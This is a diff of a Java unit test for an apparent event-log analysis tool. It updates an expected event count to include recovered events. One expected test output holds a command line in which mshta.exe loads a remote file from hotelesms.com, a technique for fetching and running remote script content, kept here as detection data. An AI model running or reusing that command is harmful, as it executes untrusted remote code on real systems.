@@ -108,7 +108,7 @@ class ProcessCommandTest {
         assertEquals("C:\\Windows\\System32\\mshta.exe", file.get(0).get("ChildPath").asText());
         JsonNode machine = json(with(MSHTA, "machine"));
         assertEquals(AskStore.IEWIN7_MUID, machine.get(0).get("Muid").asText());
-        assertEquals(8, machine.get(0).get("Events").asInt());
+        assertEquals(8 + AskStore.recoveredOfIewin7().size(), machine.get(0).get("Events").asInt(), "8 live, 1 recovered");
         JsonNode cl = json(with(MSHTA, "commandlines", "--ntop", "1", "--period", "all"));
         assertEquals("[{\"CommandLine\":\"\\\"C:\\\\Windows\\\\System32\\\\mshta.exe\\\" https://hotelesms.com/talsk.txt\",\"Times\":1}]",
                 cl.toString());
